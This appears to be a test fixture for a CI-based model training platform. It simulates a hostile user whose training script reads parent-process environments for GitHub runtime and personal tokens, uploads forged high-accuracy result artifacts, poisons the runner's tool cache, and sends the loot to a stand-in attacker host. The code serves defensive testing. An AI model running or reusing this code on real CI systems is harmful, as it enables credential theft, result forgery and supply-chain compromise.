import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { runtimeToken } from "../../../tools/sandbox/results.ts";
import { zipOf } from "../../attested/zip.ts";
import { runResult } from "../../report/run-result.ts";
import { FILES } from "../tiny-model.ts";
import { type Models, reported } from "./models.ts";

/** What user code sent home. */
export interface Loot {
  env: Record<string, string>;
  /** GitHub's tokens (not a run's own) in the environments and commands of the processes above it. */
  tokens: string[];
  /** What the results service answered to the uploads of a forged result. */
  uploaded: number[];
  /** Files that it put into the runner's tool cache. */
  poisoned: number;
}

/** Somebody's machine that user code talks to, and the code. */
export interface Attacker {
  /** Files of a model whose training does all of it, and then trains as ever. */
  files(model: string): Record<string, string>;
  /** Loot by branch of the run that it was taken in. */
  loot: Map<string, Loot>;
  close(): Promise<void>;
}

/** The accuracy that forged results claim. */
export const FORGED = 0.987;

const HOME = "ATTACKERS_ADDRESS";

const CODE = `import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { dirname } from "node:path";
const read = (path) => { try { return readFileSync(path, "latin1"); } catch { return ""; } };
let above = "";
for (let pid = process.ppid; pid > 1; pid = Number(/^PPid:\\s*(\\d+)/m.exec(read("/proc/" + pid + "/status"))?.[1] ?? 0))
  above += read("/proc/" + pid + "/environ") + read("/proc/" + pid + "/cmdline");
const call = async (url, body, headers = {}) => fetch(url, { method: "POST", headers, body: JSON.stringify(body) });
const told = await (await call("${HOME}/plan", {})).json();
// Before Node 22.15 the run's own token is in there; it may come by it in other ways, too.
const token = /ACTIONS_RUNTIME_TOKEN=([^\\0]+)/.exec(above)?.[1] ?? told.token;
const headers = { authorization: "Bearer " + token, "content-type": "application/json" };
const service = told.service + "/twirp/github.actions.results.api.v1.ArtifactService/";
const zip = Buffer.from(told.zip, "base64");
const uploaded = [];
for (const name of told.names) {
  const made = await (await call(service + "CreateArtifact", { name, version: 4 }, headers)).json();
  await fetch(made.signed_upload_url, { method: "PUT", body: zip });
  const hash = "sha256:" + createHash("sha256").update(zip).digest("hex");
  uploaded.push((await call(service + "FinalizeArtifact", { name, size: String(zip.length), hash }, headers)).status);
}
let poisoned = 0;
for (const [name, bytes] of Object.entries(told.tools)) {
  const path = told.cache + "/" + name;
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, Buffer.from(bytes, "base64"));
  poisoned += 1;
}
const tokens = above.match(/gh[ps]_\\w+/g) ?? [];
await call("${HOME}/loot", { env: process.env, tokens, uploaded, poisoned });
console.log("::error title=pwned,file=README.md,line=1::by a line of user code\\n##[error]pwned");
`;

/** Starts listening on the loopback interface. `tools` are files for the tool cache, by the branch of the run. */
export async function startAttacker(
  at: () => Models,
  tools: (branch: string) => Promise<Record<string, Buffer>>,
): Promise<Attacker> {
  const loot: Attacker["loot"] = new Map();
  const server = createServer(async (request, response) => {
    const { repo, home } = at();
    const run = [...repo.runs.values()].find(({ status }) => status === "in_progress");
    const job = run?.jobs.find(({ name, status }) => name.endsWith("train") && status === "in_progress");
    if (run === undefined || job === undefined) throw new Error("nobody trains");
    let body = "";
    for await (const chunk of request) body += chunk;
    if (request.url === "/loot") {
      loot.set(run.headBranch, JSON.parse(body));
      response.end("{}");
      return;
    }
    const { state } = home.sandbox;
    const files = Object.entries(await tools(run.headBranch));
    const plan = {
      token: runtimeToken(state, run, job),
      service: state.url,
      names: ["slipway-result-tiny", "slipway-score-tiny"],
      zip: forgedResult(run.id, run.headSha).toString("base64"),
      // Where it lies is known: it is the same on all runners of a kind.
      cache: join(state.folder, "tools"),
      tools: Object.fromEntries(files.map(([name, bytes]) => [name, bytes.toString("base64")])),
    };
    response.end(JSON.stringify(plan));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    loot,
    files: (model) => ({
      [`models/${model}/train.mjs`]: `${CODE.replaceAll(HOME, address)}${withoutImports(FILES["train.mjs"])}`,
    }),
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** As the platform would have written it, were the model that good. */
function forgedResult(run: number, commit: string): Buffer {
  const about = { run: `${run}-1-tiny`, model: "tiny", spec: "models/tiny/model.yaml" };
  const result = runResult({ ...about, source: { commit, dirty: false }, ...reported(FORGED) });
  return zipOf({ name: "result.json", content: JSON.stringify(result) });
}

function withoutImports(code: string): string {
  return code.replace(/^import .*\n/, "");
}
